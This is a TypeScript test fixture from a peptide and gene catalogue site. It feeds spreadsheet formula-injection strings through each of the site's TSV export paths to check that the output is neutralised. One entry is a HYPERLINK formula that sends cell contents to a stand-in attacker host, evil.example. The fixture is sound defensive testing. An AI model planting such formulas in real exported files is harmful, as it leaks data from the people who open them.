import { readFile } from 'node:fs/promises';
import { spencer } from '#domain/catalogue/identity';
import { readPeptides } from '#domain/match/read-peptides';
import { toTsv } from '#domain/text/tsv';
import { routes } from '#domain/api/routes';
import { DownloadFiles } from '../../data-loader/derive/download-files';
import { combinationTable } from '../../web/charts/combination-table';
import { hitFormats } from '../../web/features/blast/result/hit-formats';
import { matchResult, matchTsv } from '../../web/features/match/match-result';
import { exportFormats } from '../../web/parts/export/export-formats';
import { inTemporaryFolder } from '../fixtures/bundle/temporary-bundle';
import { hit } from '../web/blast/hits';

/** Texts that spreadsheets take for formulas. */
export const formulas = [
  '=HYPERLINK("http://evil.example/?"&B2,"open")',
  '"=1+1"',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
] as const;

/** A table that this site writes, with a text of a stranger in it. */
export interface HostileTable {
  source: string;
  /** As it came. */
  stranger: string;
  text: string;
}

function matchTable(given: string): string {
  // The name of a record ends at its first blank.
  const reading = readPeptides(`>${given}\nPEPTIDEK\n`);
  if (reading.kind !== 'peptides') throw new Error(JSON.stringify(reading));
  const answer = { matches: [], orfMatches: [], unmatched: ['PEPTIDEK'], tooShort: [], rows: new Map() };
  return matchTsv(matchResult(reading.peptides, answer));
}

const [row] = routes.listByPeptideIds.example.response;

function exported(relatedGeneName: string): string {
  const { tsv } = exportFormats;
  const rows = [{ ...row, relatedGeneName }];
  const origin = { catalogue: 'SPENCER', release: 'r', date: '2026-01-01', query: {} };
  return tsv.head(origin, rows.length, rows) + tsv.rows(rows, true) + tsv.tail;
}

async function geneFile(description: string): Promise<string> {
  return inTemporaryFolder(async (folder) => {
    const downloads = await DownloadFiles.create(folder, [], spencer);
    await downloads.table('geneInfo', { ...routes.geneInfo.example.response, description });
    await downloads.close();
    const file = downloads.paths.find(({ set }) => set.download.endsWith('Gene_info'));
    return readFile(file?.path ?? '', 'utf8');
  });
}

/** One table for each way by which such a text reaches a file for people. */
export async function hostileTables(): Promise<HostileTable[]> {
  const hits = hitFormats.find(({ id }) => id === 'tsv');
  const writers: Record<string, (stranger: string) => string | Promise<string>> = {
    'the name of a query of BLAST': (queryId) => hits?.write([hit({ queryId })]) ?? '',
    'a line pasted into Match': matchTable,
    'the name of a saved list': (name) =>
      toTsv(combinationTable([name, 'Liver cancer'], [{ sets: [0, 1], sequences: 2, rows: 3 }])),
    'a value of a bundle, exported': exported,
    'a value of a bundle, in a file for download': geneFile,
  };
  return Promise.all(
    Object.entries(writers).flatMap(([source, write]) =>
      formulas.map(async (stranger) => ({ source, stranger, text: await write(stranger) })),
    ),
  );
}
